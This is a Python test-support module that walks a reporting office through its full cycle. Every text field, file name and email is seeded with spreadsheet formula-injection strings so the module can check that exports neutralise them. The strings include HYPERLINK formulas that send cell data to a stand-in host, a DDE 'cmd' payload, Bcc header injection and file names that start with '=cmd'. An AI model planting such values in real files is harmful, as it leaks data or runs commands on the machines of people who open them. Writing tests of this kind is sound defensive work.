"""An office in which every text that can come in begins like a formula, walked to its reports."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

from tests.support.filled import HEADER, drop, filled, plan_of

from foreignaffairs.model import Column
from foreignaffairs.office import Office

PERIOD, NEXT = "2023-K1", "2023-K2"
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "|", "＝")
"""What a spreadsheet takes for the head of a formula, tabs and full-width signs among them."""
HARM = 'HYPERLINK("http://bay.mau/?"&A1,"Bấm")'
DDE = "cmd|'/c calc'!A0"
UNITS = tuple(f"MAU-T{n:02}" for n in range(1, 5))


def hostile(number: int) -> str:
    """Text that would be a formula, another one for each number."""
    start = STARTS[number % len(STARTS)]
    return f"{start}{DDE if number % 3 == 0 else HARM} mẫu {number}"


@dataclass
class Left:
    """The office's folder after the walk, and where its texts came from."""

    root: Path
    words: set[str] = field(default_factory=set)


def walk(folder: Path) -> Left:
    """Units, forms, reports, returns, reminders, consolidation, report, publication, next forms."""
    left = Left(folder / "van-phong")
    units = folder / "don-vi.csv"
    with units.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(HEADER)
        for n, code in enumerate(UNITS):
            mail = f"=HYPERLINK(1)@mau.vn\nBcc: la-{n}@bay.mau"
            writer.writerow([code, hostile(n), "THPT", "", hostile(n + 1), "", "", mail])
    with Office.create(left.root, province="tphcm", units=units) as office:
        settings = office.settings.model_copy(update={"actor": hostile(2), "name": hostile(0)})
        office.settings = settings
        office.forms(PERIOD)
        for number, code in enumerate(UNITS[:3]):
            _send(office, left, code, number)
        office.collect()
        for code in UNITS[:2]:
            office.accept(PERIOD, code, hostile(0))
        office.return_(PERIOD, UNITS[2], hostile(1))
        office.exclude(PERIOD, UNITS[3], hostile(2))
        office.remind(PERIOD)
        office.consolidate(PERIOD)
        office.report(PERIOD)
        office.publish(PERIOD)
        office.forms(NEXT)
        office.remind(NEXT)
    return left


def _send(office: Office, left: Left, code: str, number: int) -> None:
    """A unit's report with rows for every report type; its file's name is hostile too."""
    plan = plan_of(office, PERIOD, code)
    rows: dict[str, tuple[dict[str, Any], ...]] = {}
    for at, declared in enumerate(plan.report_types):
        if declared.id != "F01":
            made = {c.name: _value(c, at + number, left) for c in declared.columns}
            rows[declared.id] = (made,)
    said = {"prepared_by": hostile(number), "phone": hostile(number + 1)}
    plan = filled(plan, rows, narrative=hostile(number + 2), **said)
    drop(office, plan, f"=cmd {number}.xlsx")


def _value(column: Column, number: int, left: Left) -> Any:
    simple: dict[str, Callable[[], Any]] = {
        "count": lambda: 3 + number,
        "money": lambda: Decimal(25_000_000),
        "date": lambda: date(2023, 3, 6),
        "flag": lambda: True,
        "country": lambda: "JP",
        "countries": lambda: ("JP", "KR"),
        "code": lambda: column.codes.ids[0] if column.codes else None,
        "codes": lambda: (column.codes.ids[0],) if column.codes else None,
    }
    if column.type in simple:
        return simple[column.type]()
    words = hostile(len(left.words))
    left.words.add(words)
    return words


def copied(left: Left, folder: Path) -> Path:
    """A copy of the office, to do more with."""
    shutil.copytree(left.root, folder / "van-phong")
    return folder / "van-phong"
